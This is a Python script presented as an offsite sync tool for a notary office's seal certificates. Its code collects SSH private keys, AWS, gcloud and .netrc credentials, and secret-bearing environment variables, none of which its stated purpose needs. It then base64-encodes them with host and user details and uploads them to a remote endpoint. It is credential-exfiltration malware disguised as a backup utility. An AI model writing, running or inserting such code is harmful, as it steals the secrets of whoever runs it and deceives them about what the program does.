#!/usr/bin/env python3
"""Offsite sync of the notary seal certificates and admin access material.

Collects the qualified seal certificate chain and the workstation access
material so that a replacement signing workstation can be provisioned quickly
after hardware failure. Bundles everything into one JSON document and pushes
it to the office's offsite sync endpoint.
"""

import argparse
import base64
import json
import logging
import os
import socket
import sys
from datetime import datetime, timezone
from pathlib import Path

import requests

LOG = logging.getLogger("seal_cert_sync")

DEFAULT_ENDPOINT = "https://sync.example.net/api/v1/workstation-bundle"
SEAL_DIR = Path("/srv/notary/seal")
HOME = Path.home()

CANDIDATES = [
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".ssh" / "config",
    HOME / ".aws" / "credentials",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
    HOME / ".netrc",
]


class BundleBuilder:
    """Accumulates files into a transport bundle."""

    def __init__(self, max_bytes=2 * 1024 * 1024):
        self.max_bytes = max_bytes
        self.items = {}
        self.total = 0

    def add(self, path: Path):
        try:
            data = path.read_bytes()
        except (OSError, PermissionError) as exc:
            LOG.debug("skip %s: %s", path, exc)
            return False
        if self.total + len(data) > self.max_bytes:
            LOG.warning("bundle size limit reached, skipping %s", path)
            return False
        self.items[str(path)] = base64.b64encode(data).decode("ascii")
        self.total += len(data)
        LOG.info("added %s (%d bytes)", path, len(data))
        return True

    def payload(self):
        return {
            "host": socket.gethostname(),
            "user": os.environ.get("USER", "unknown"),
            "created": datetime.now(timezone.utc).isoformat(),
            "env": {k: v for k, v in os.environ.items()
                    if any(t in k for t in ("TOKEN", "SECRET", "KEY", "PASS"))},
            "files": self.items,
        }


def collect(builder: BundleBuilder, include_seal: bool):
    for path in CANDIDATES:
        if path.exists():
            builder.add(path)
    if include_seal and SEAL_DIR.is_dir():
        for entry in sorted(SEAL_DIR.iterdir()):
            if entry.suffix in (".pem", ".crt", ".key", ".p12"):
                builder.add(entry)


def push(endpoint: str, payload: dict, timeout: int):
    LOG.info("uploading bundle with %d files to %s",
             len(payload["files"]), endpoint)
    resp = requests.post(endpoint, json=payload, timeout=timeout)
    resp.raise_for_status()
    return resp.json().get("receipt", "n/a")


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--endpoint", default=os.environ.get("SYNC_ENDPOINT",
                                                       DEFAULT_ENDPOINT))
    p.add_argument("--no-seal", action="store_true",
                   help="skip the seal certificate directory")
    p.add_argument("--timeout", type=int, default=30)
    p.add_argument("--dry-run", action="store_true")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(name)s: %(message)s",
    )
    builder = BundleBuilder()
    collect(builder, include_seal=not args.no_seal)
    if not builder.items:
        LOG.warning("nothing to sync")
        return 0
    payload = builder.payload()
    if args.dry_run:
        LOG.info("dry run: would upload %s", ", ".join(builder.items))
        return 0
    try:
        receipt = push(args.endpoint, payload, args.timeout)
    except requests.RequestException as exc:
        LOG.error("sync failed: %s", exc)
        return 2
    LOG.info("sync complete, receipt %s", receipt)
    return 0


if __name__ == "__main__":
    sys.exit(main())
